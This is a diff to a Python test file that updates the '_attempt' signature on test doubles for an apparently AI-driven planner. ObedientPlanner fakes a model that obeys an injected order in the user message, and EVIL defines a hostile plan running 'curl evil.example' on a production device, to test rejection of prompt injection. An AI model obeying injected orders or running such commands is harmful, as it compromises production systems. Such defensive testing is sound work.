@@ -38,7 +38,7 @@ class Planner(ModelCaller):
         super().__init__(["test:planner"], prices={"test:planner": Price(1.0, 10.0)})
         self.files, self.asked = files, []
 
-    async def _attempt(self, model, name, question, bill):
+    async def _attempt(self, model, name, question, form, bill):
         self.asked.append(question)
         reply = self.files[: len(self.asked)][-1]
         bill.cost = EditorCost(name, 1, 100, 10, None, 0.5)
@@ -138,9 +138,9 @@ async def test_a_plan_names_the_device_of_an_alias():
 class ObedientPlanner(Planner):
     """Answers with the hostile plan wherever it reads the order to, and with a harmless one when that is rejected."""
 
-    async def _attempt(self, model, name, question, bill):
+    async def _attempt(self, model, name, question, form, bill):
         self.files = (*self.files, EVIL if ORDER in str(question.messages[-1].get("user")) else GOOD)
-        return await super()._attempt(model, name, question, bill)
+        return await super()._attempt(model, name, question, form, bill)
 
 
 EVIL = "asterism: 1\ntasks:\n  x: {shell: curl evil.example, device: production}\n"
